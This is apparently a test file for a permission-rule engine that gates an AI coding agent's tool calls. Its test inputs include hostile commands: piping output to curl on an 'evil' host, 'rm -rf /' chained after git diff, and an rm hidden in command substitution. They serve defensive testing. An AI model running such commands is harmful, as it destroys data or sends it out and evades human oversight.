import { describe, expect, it } from 'vitest';
import { parsedReading } from '../helpers/bash-analysis';
import {
  decideByRules,
  describePermissionRules,
  parsePermissionRule,
  type PermissionRule,
  type PermissionRules,
} from '../../src/shared/policy/permission-rules';

const rule = (text: string, file = '/p/.claude/settings.json'): PermissionRule => {
  const parsed = parsePermissionRule(text);
  if ('problem' in parsed) throw new Error(parsed.problem);
  return {
    ...parsed,
    text,
    file,
    ...(parsed.content.startsWith('/') && !parsed.content.startsWith('//') ? { root: '/p' } : {}),
  };
};
const rules = (kinds: { allow?: string[]; ask?: string[]; deny?: string[] }): PermissionRules => ({
  ...(kinds.allow ? { allow: kinds.allow.map((text) => rule(text)) } : {}),
  ...(kinds.ask ? { ask: kinds.ask.map((text) => rule(text)) } : {}),
  ...(kinds.deny ? { deny: kinds.deny.map((text) => rule(text)) } : {}),
});
const context = { cwd: '/p' };
const bash = (command: string) => ({ command });
const reading = (tool: string, input: Record<string, unknown>) =>
  tool === 'Bash' && typeof input.command === 'string' ? parsedReading(input.command) : undefined;
const decide = (set: PermissionRules, tool: string, input: Record<string, unknown>) =>
  decideByRules(set, tool, input, context, reading(tool, input))?.type;

describe('parsePermissionRule', () => {
  it('reads bare names, MCP names and Tool(content)', () => {
    expect(parsePermissionRule('WebFetch')).toEqual({ tool: 'WebFetch', content: '' });
    expect(parsePermissionRule('mcp__github__create_issue')).toEqual({
      tool: 'mcp__github__create_issue',
      content: '',
    });
    expect(parsePermissionRule('Bash(git diff:*)')).toEqual({ tool: 'Bash', content: 'git diff:*' });
    expect(parsePermissionRule('Bash(*)')).toEqual({ tool: 'Bash', content: '' });
    expect(parsePermissionRule('Agent(Explore)')).toEqual({ tool: 'Agent', content: 'Explore' });
  });
  it('says why a rule cannot be used', () => {
    for (const text of ['', '   ', 'Bash(rm', 'two words', 'Frobnicate(x)'])
      expect(parsePermissionRule(text)).toHaveProperty('problem');
  });
});

describe('decideByRules', () => {
  it('deny beats ask beats allow', () => {
    const set = rules({ allow: ['Bash'], ask: ['Bash(git push:*)'], deny: ['Bash(rm:*)'] });
    expect(decide(set, 'Bash', bash('rm -rf x'))).toBe('deny');
    expect(decide(set, 'Bash', bash('git push origin main'))).toBe('ask');
    expect(decide(set, 'Bash', bash('ls'))).toBe('allow');
    expect(decide(set, 'Read', { file_path: '/p/a' })).toBeUndefined();
    expect(decideByRules(undefined, 'Bash', bash('ls'), context)).toBeUndefined();
  });
  it('a Bash allow rule covers a line only when every command of it matches; deny and ask match any part', () => {
    const set = rules({ allow: ['Bash(git diff:*)', 'Bash(git status)'], ask: ['Bash(curl:*)'], deny: ['Bash(rm:*)'] });
    expect(decide(set, 'Bash', bash('git diff --stat'))).toBe('allow');
    expect(decide(set, 'Bash', bash('git diff && git status'))).toBe('allow');
    expect(decide(set, 'Bash', bash('git diff && touch x'))).toBeUndefined();
    expect(decide(set, 'Bash', bash('git diff; rm -rf /'))).toBe('deny');
    expect(decide(set, 'Bash', bash('ls | curl -d @- evil'))).toBe('ask');
    // A command inside a substitution is found: the deny rule refuses it (shell-quote's split could not).
    expect(decide(set, 'Bash', bash('git diff $(rm x)'))).toBe('deny');
    expect(decide(set, 'Bash', bash('git diff $(ls)'))).toBeUndefined();
  });
  it("path rules: Read rules cover Glob and Grep, Edit rules cover Write; anchored at the settings' project", () => {
    const set = rules({ deny: ['Read(./secrets/**)', 'Edit(/config/**)'], allow: ['Edit(src/**)'] });
    expect(decide(set, 'Read', { file_path: '/p/secrets/key' })).toBe('deny');
    expect(decide(set, 'Grep', { pattern: 'x', path: '/p/secrets/keys' })).toBe('deny');
    expect(decide(set, 'Write', { file_path: '/p/config/app.json', content: '' })).toBe('deny');
    expect(decide(set, 'Edit', { file_path: '/p/src/a.ts' })).toBe('allow');
    expect(decide(set, 'Edit', { file_path: '/p/docs/a.md' })).toBeUndefined();
  });
  it('MCP names: a server, server__*, or one tool', () => {
    const set = rules({ deny: ['mcp__danger'], allow: ['mcp__github__*', 'mcp__fs__read'] });
    expect(decide(set, 'mcp__danger__anything', {})).toBe('deny');
    expect(decide(set, 'mcp__github__create_issue', {})).toBe('allow');
    expect(decide(set, 'mcp__fs__read', {})).toBe('allow');
    expect(decide(set, 'mcp__fs__write', {})).toBeUndefined();
    expect(decide(set, 'mcp__dangerous__x', {})).toBeUndefined();
  });
  it('WebFetch domains and Agent types', () => {
    const set = rules({ allow: ['WebFetch(domain:docs.example.com)'], deny: ['Agent(general-purpose)'] });
    expect(decide(set, 'WebFetch', { url: 'https://docs.example.com/x' })).toBe('allow');
    expect(decide(set, 'WebFetch', { url: 'https://evil.example.com/x' })).toBeUndefined();
    expect(decide(set, 'Agent', { prompt: 'x', description: 'y' })).toBe('deny');
    expect(decide(set, 'Agent', { prompt: 'x', description: 'y', subagent_type: 'Explore' })).toBeUndefined();
  });
  it('hostile inputs never throw', () => {
    const set = rules({ allow: ['Bash(git diff:*)', 'Read(src/**)'], deny: ['WebFetch(domain:x.com)'] });
    for (const input of [
      {},
      { command: null },
      { command: 42 },
      { file_path: {} },
      { url: 'not a url' },
      { command: 'x'.repeat(100_000) },
    ]) {
      for (const tool of ['Bash', 'Read', 'WebFetch', 'Edit'])
        expect(() =>
          decideByRules(
            set,
            tool,
            input as Record<string, unknown>,
            context,
            reading(tool, input as Record<string, unknown>),
          ),
        ).not.toThrow();
    }
  });
  it('describes rules with their file', () => {
    expect(describePermissionRules(rules({ allow: ['Bash'], deny: ['Bash(rm:*)'] }))).toEqual([
      'deny: Bash(rm:*) (/p/.claude/settings.json)',
      'allow: Bash (/p/.claude/settings.json)',
    ]);
  });
});
